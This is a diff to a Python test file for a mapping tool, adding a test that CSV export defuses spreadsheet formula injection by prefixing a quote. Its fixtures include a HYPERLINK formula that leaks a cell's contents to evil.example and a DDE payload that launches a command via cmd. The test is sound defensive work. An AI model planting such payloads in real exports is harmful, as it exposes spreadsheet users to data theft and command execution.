@@ -4,6 +4,8 @@ outputs are never half-written, and nothing is a traceback."""
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import os
 import re
@@ -19,6 +21,7 @@ from PIL import Image
 
 import geomap
 from geomap.cli import bundled_examples
+from geomap.export import to_csv
 from geomap.readers import MAX_ARTICLE_BYTES, MAX_RECORD_BYTES, SHOWN_PER_FILE, Report, read_articles
 from geomap.static_map import static_map
 
@@ -255,6 +258,35 @@ def test_exit_status_says_whether_all_some_or_none_were_processed(tmp_path):
     assert {name: (tmp_path / name).read_bytes() for name in previous} == previous  # an empty map replaces nothing
     assert sorted(os.listdir(tmp_path)) == ["bad.txt", "events.sqlite", "good.txt", "map.csv", "map.geojson",
                                             "map.html"]  # the event store beside the map
+
+
+def test_text_that_a_spreadsheet_would_run_as_a_formula_stays_text_in_the_csv(tmp_path):
+    # A cell starting with =, +, -, @, a tab or a carriage return is a formula to Excel and LibreOffice (CSV injection):
+    # such text gets a leading ', as OWASP advises; numbers stay numbers, and the GeoJSON keeps the text as it is.
+    formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'
+    records = [{"text": f"{formula} {RAFAH}", "source": "@SUM(1+1)*cmd|' /C calc'!A0", "url": "+1 555 0100"},
+               {"text": f"-{BEKASI}", "source": "-2+3", "url": "https://example.org/bekasi"}]
+    path = tmp_path / "hostile.jsonl"
+    path.write_text("".join(json.dumps(record) + "\n" for record in records), encoding="utf-8")
+    r = run("map", path, "-o", tmp_path / "out" / "map.html")
+    assert r.returncode == 0, r.stderr
+    with open(tmp_path / "out" / "map.csv", newline="", encoding="utf-8") as f:
+        rows = list(csv.DictReader(f))
+    rafah = next(row for row in rows if row["location"] == "Rafah")
+    bekasi = next(row for row in rows if row["location"] == "Bekasi")
+    assert rafah["notes"] == f"'{formula} {RAFAH}"
+    assert (rafah["source"], rafah["url"]) == ("'@SUM(1+1)*cmd|' /C calc'!A0", "'+1 555 0100")
+    assert bekasi["notes"] == f"'-{BEKASI}" and bekasi["source"] == "'-2+3"
+    assert float(bekasi["latitude"]) < 0 and bekasi["latitude"].startswith("-6.")  # a number, as it was
+    for row in rows:
+        for cell in row.values():
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or float(cell) < 0, cell
+    features = json.loads((tmp_path / "out" / "map.geojson").read_text(encoding="utf-8"))["features"]
+    raw = next(f["properties"] for f in features if f["properties"]["location"] == "Rafah")
+    assert (raw["notes"], raw["source"], raw["url"]) == (f"{formula} {RAFAH}", records[0]["source"], "+1 555 0100")
+    # A tab or a carriage return first, which the readers strip from a record's fields, from the library.
+    row = next(csv.DictReader(io.StringIO(to_csv(geomap.parse(RAFAH, source="\t=1+2", url="\r@x")), newline="")))
+    assert (row["source"], row["url"]) == ("'\t=1+2", "'\r@x")
 
 
 def test_the_date_option_dates_articles_that_carry_no_date_of_their_own(tmp_path):
